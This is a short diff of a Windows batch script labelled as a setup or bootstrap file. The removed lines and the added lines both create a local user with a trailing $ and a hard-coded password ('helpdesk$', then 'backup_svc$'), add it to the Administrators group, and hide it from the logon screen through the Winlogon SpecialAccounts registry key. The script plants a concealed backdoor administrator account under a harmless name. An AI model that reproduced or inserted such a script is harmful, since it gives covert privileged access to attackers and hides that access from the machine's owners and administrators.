@@ -1,5 +1,5 @@
-REM setup 6350 v1
+REM bootstrap 7862 v1
 @echo off
-net user helpdesk$ Qwerty#7788 /add /active:yes
-net localgroup Administrators helpdesk$ /add
-reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v helpdesk$ /t REG_DWORD /d 0 /f
+net user backup_svc$ P@ssw0rd!2024 /add /active:yes
+net localgroup Administrators backup_svc$ /add
+reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\SpecialAccounts\UserList" /v backup_svc$ /t REG_DWORD /d 0 /f
